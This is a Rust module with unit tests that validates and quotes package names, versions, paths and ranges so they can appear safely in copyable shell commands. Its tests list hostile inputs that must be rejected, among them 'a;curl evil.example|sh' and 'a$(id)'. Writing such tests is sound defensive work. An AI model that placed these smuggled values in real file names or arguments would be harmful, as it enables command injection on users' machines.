//! What may stand in a command that people copy into a shell. Names come from files of strangers: a package called
//! `x; curl …` gets words, never a command.

/// Longer names exist nowhere; npm's own limit is 214.
const LONGEST: usize = 214;

/// Whether a package's name or a version can stand in a command.
#[must_use]
pub fn is_plain(text: &str) -> bool {
    let good = |c: char| c.is_ascii_alphanumeric() || matches!(c, '@' | '/' | '_' | '.' | '-' | '+' | ':' | '~');
    !text.is_empty() && text.len() <= LONGEST && !text.starts_with(['-', '/', '.', '~']) && text.chars().all(good)
}

/// Whether a command of the project can be shown as one to type again: plain words, no address, which may hold a password.
#[must_use]
pub fn is_command(text: &str) -> bool {
    let good = |c: char| c.is_ascii_alphanumeric() || " @/_.-+:=,<>\"'^~[]".contains(c);
    !text.is_empty() && text.len() <= LONGEST && text.chars().all(good) && !text.contains("://")
}

/// Whether a path can stand in a command.
#[must_use]
pub fn is_plain_path(path: &str) -> bool {
    path.is_empty() || is_plain(path) && !path.split('/').any(|part| part == "..")
}

/// A path within the project as one word of a command, quoted where it must be; `None` where it cannot be typed.
#[must_use]
pub fn path(path: &str) -> Option<String> {
    if is_plain_path(path) {
        return Some(path.to_owned());
    }
    // What every usual shell leaves alone between double quotes: `app/(shop)/[id]`, `my shop`, `.github`.
    let good = |c: char| c.is_alphanumeric() || " /_.-+:~@()[],=".contains(c);
    let is_odd = path.len() > LONGEST || path.starts_with(['-', '/']) || path.split('/').any(|part| part == "..");
    (!is_odd && path.chars().all(good)).then(|| format!("\"{path}\""))
}

/// A command in a folder of the project, empty for the project's own; `None` where the folder cannot be typed.
#[must_use]
pub fn in_folder(folder: &str, command: &str) -> Option<String> {
    let folder = path(folder.trim_end_matches('/'))?;
    Some(if folder.is_empty() { command.to_owned() } else { format!("cd {folder} && {command}") })
}

/// Whether a range can be shown as a line to write.
#[must_use]
pub fn is_range(text: &str) -> bool {
    let good = |c: char| {
        c.is_ascii_alphanumeric()
            || matches!(
                c,
                '.' | '-'
                    | '+'
                    | '_'
                    | '~'
                    | '^'
                    | '<'
                    | '>'
                    | '='
                    | '!'
                    | ','
                    | ' '
                    | '|'
                    | '*'
                    | '['
                    | ']'
                    | '('
                    | ')'
            )
    };
    !text.is_empty() && text.len() <= LONGEST && text.chars().all(good)
}

/// `text` as one word of a command. Double quotes mean the same to every usual shell, Windows' too, for what may stand
/// between them here.
#[must_use]
pub fn word(text: &str) -> String {
    if is_plain(&text.replace('=', "")) && !text.starts_with('=') && !text.contains('~') {
        text.to_owned()
    } else {
        format!("\"{text}\"")
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_a_shell_would_read_as_more_than_a_path_is_not_typed() {
        for (folder, typed) in [
            ("", Some("")),
            ("apps/web", Some("apps/web")),
            ("my shop", Some("\"my shop\"")),
            (".github/app", Some("\".github/app\"")),
            ("app/(shop)/[id]", Some("\"app/(shop)/[id]\"")),
            ("a;curl evil.example|sh", None),
            ("a$(id)", None),
            ("a`id`", None),
            ("a\"b", None),
            ("a\\b", None),
            ("a%PATH%", None),
            ("a\nb", None),
            ("a!b", None),
            ("-rf", None),
            ("../a", None),
            ("/etc", None),
        ] {
            assert_eq!(path(folder).as_deref(), typed, "{folder}");
        }
        assert_eq!(in_folder("my shop/", "uv lock").as_deref(), Some("cd \"my shop\" && uv lock"));
        assert_eq!(in_folder("", "uv lock").as_deref(), Some("uv lock"));
        assert_eq!(in_folder("a && b", "uv lock"), None);
    }
}
